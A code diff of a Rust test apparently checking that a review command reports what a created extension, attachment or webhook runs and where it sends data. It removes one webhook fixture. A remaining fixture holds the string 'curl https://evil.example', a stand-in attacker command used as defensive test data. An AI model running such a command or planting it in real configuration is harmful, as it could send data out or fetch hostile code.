@@ -75,7 +75,6 @@ fn of_a_created_object_what_runs_who_gets_it_and_where_it_goes_is_shown() {
     for (file, word) in [
         ("extension.json", "curl https://evil.example"),
         ("attachment.json", "evil-user"),
-        ("webhook.json", "https://evil.example"),
     ] {
         for format in ["terminal", "markdown"] {
             let command = format!("review --format {format} {file}");
